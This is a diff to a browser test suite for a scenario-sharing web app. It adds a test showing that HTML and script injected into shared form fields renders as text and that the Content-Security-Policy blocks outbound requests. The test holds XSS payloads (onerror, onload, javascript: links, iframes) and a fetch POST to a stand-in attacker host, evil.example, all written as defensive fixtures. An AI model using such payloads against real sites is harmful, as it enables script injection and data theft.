@@ -46,11 +46,14 @@ const browser = await chromium.launch({
 });
 
 const requests = [];
+/** Requests the Content-Security-Policy stopped in the browser: they never left it. */
+const blockedByCsp = new Set();
 const consoleErrors = [];
 let expectErrors = false;
 async function newPage(context) {
   const page = await context.newPage();
   page.on('request', (r) => requests.push(r.url()));
+  page.on('requestfailed', (r) => r.failure()?.errorText === 'csp' && blockedByCsp.add(r.url()));
   page.on('console', (m) => {
     if (m.type() === 'error' && !expectErrors) consoleErrors.push(m.text());
   });
@@ -758,9 +761,106 @@ await test('works offline once loaded (service worker)', async () => {
   await ctx.close();
 });
 
+await test('markup in a shared scenario shows as text and loads nothing (Content-Security-Policy)', async () => {
+  const evil = {
+    name: '<img src="http://evil.example/name.png" onerror="window.pwned=1"><script>window.pwned=2</script>',
+    pod: '<svg onload="window.pwned=3"><a href="javascript:window.pwned=4">pod</a></svg>',
+    placement: '"><iframe src="http://evil.example/frame"></iframe>',
+    campaign: '<link rel="stylesheet" href="http://evil.example/x.css"><b>campaign</b>',
+  };
+  // Made in the form, as anyone could, and shared as a link.
+  const maker = await browser.newContext({ viewport: { width: 1400, height: 900 } });
+  maker.on('request', (r) => requests.push(r.url()));
+  const m = await newPage(maker);
+  await m.goto(`${origin}/`);
+  await ready(m);
+  await m.evaluate(() => document.querySelectorAll('details').forEach((d) => (d.open = true)));
+  await m.fill('#in-name', evil.name);
+  await m.fill('#in-pods-0-name', evil.pod);
+  await m.fill('#in-looked_after-placements-0-name', evil.placement);
+  await m.fill('#in-recruitment-campaigns-0-name', evil.campaign);
+  await valid(m);
+  await m.click('#share');
+  const url = await m.inputValue('#share-url');
+  await maker.close();
+
+  const ctx = await browser.newContext({
+    viewport: { width: 1400, height: 900 },
+    acceptDownloads: true,
+  });
+  ctx.on('request', (r) => requests.push(r.url()));
+  const p = await newPage(ctx);
+  const seen = [];
+  p.on('request', (r) => seen.push(r.url()));
+  await p.goto(url);
+  await ready(p);
+  const csp = await p.evaluate(
+    () => document.querySelector('meta[http-equiv="Content-Security-Policy"]')?.content ?? '',
+  );
+  assert(/default-src 'self'/.test(csp) && /connect-src 'self'/.test(csp), `CSP: ${csp}`);
+  eq(await p.locator('#working-name').innerText(), evil.name, 'the name shows as text');
+  await valid(p);
+  await p.click('#notice-run');
+  await p.waitForSelector('[data-prov="name"]', { timeout: 60000 });
+  eq(await p.locator('[data-prov="name"]').innerText(), evil.name, 'provenance shows it as text');
+  assert(
+    (await p.locator('#sec-questions').innerText()).includes(evil.campaign),
+    'the campaign’s name shows as text',
+  );
+  const injected = await p.evaluate(() => ({
+    pwned: window.pwned ?? null,
+    elements: [...document.querySelectorAll('img, iframe, script, link, svg a, b')]
+      .map((e) => e.outerHTML)
+      .filter((x) => x.includes('evil') || x.includes('pwned') || x.includes('<b>campaign')),
+  }));
+  eq(injected.pwned, null, 'no script ran');
+  eq(injected.elements.length, 0, `no element made from the names: ${injected.elements.join(' ')}`);
+  // The budget paper made from it, opened from the page, shows the names as text too.
+  await downloadOf(p, () => p.click('#dl-report'));
+  await p.waitForSelector('#open-report-html', { timeout: 60000 });
+  const [popup] = await Promise.all([ctx.waitForEvent('page'), p.click('#open-report-html')]);
+  popup.on('request', (r) => seen.push(r.url()));
+  await popup.waitForLoadState();
+  assert((await popup.locator('body').innerText()).includes(evil.name), 'report shows the name');
+  eq(await popup.evaluate(() => window.pwned ?? null), null, 'no script ran in the report');
+  await popup.close();
+  // And the policy is enforced: the page itself cannot reach another site.
+  expectErrors = true;
+  const blocked = await p.evaluate(async () => {
+    const violations = [];
+    document.addEventListener('securitypolicyviolation', (e) =>
+      violations.push(e.violatedDirective),
+    );
+    const fetched = await fetch('http://evil.example/collect', { method: 'POST', body: 'x' }).then(
+      () => 'sent',
+      () => 'blocked',
+    );
+    const img = new Image();
+    img.src = 'http://evil.example/pixel.png';
+    await new Promise((ok) => setTimeout(ok, 300));
+    return { fetched, violations };
+  });
+  expectErrors = false;
+  eq(blocked.fetched, 'blocked', 'fetch to another site blocked');
+  assert(
+    blocked.violations.includes('connect-src') && blocked.violations.includes('img-src'),
+    `violations reported: ${blocked.violations.join(', ')}`,
+  );
+  assert(blockedByCsp.has('http://evil.example/pixel.png'), 'the image request stopped by the CSP');
+  const foreign = seen.filter(
+    (u) => !u.startsWith(origin) && !/^(blob|data):/.test(u) && !blockedByCsp.has(u),
+  );
+  eq(foreign.length, 0, `requests left the origin: ${foreign.join(', ')}`);
+  await ctx.close();
+});
+
 await test('no request left the page’s origin', async () => {
   const foreign = requests.filter(
-    (u) => !u.startsWith(origin) && !u.startsWith('blob:') && !u.startsWith('data:'),
+    (u) =>
+      !u.startsWith(origin) &&
+      !u.startsWith('blob:') &&
+      !u.startsWith('data:') &&
+      !blockedByCsp.has(u),
   );
   eq(foreign.length, 0, `foreign requests: ${foreign.slice(0, 5).join(', ')}`);
   assert(requests.length > 3, 'requests were recorded');
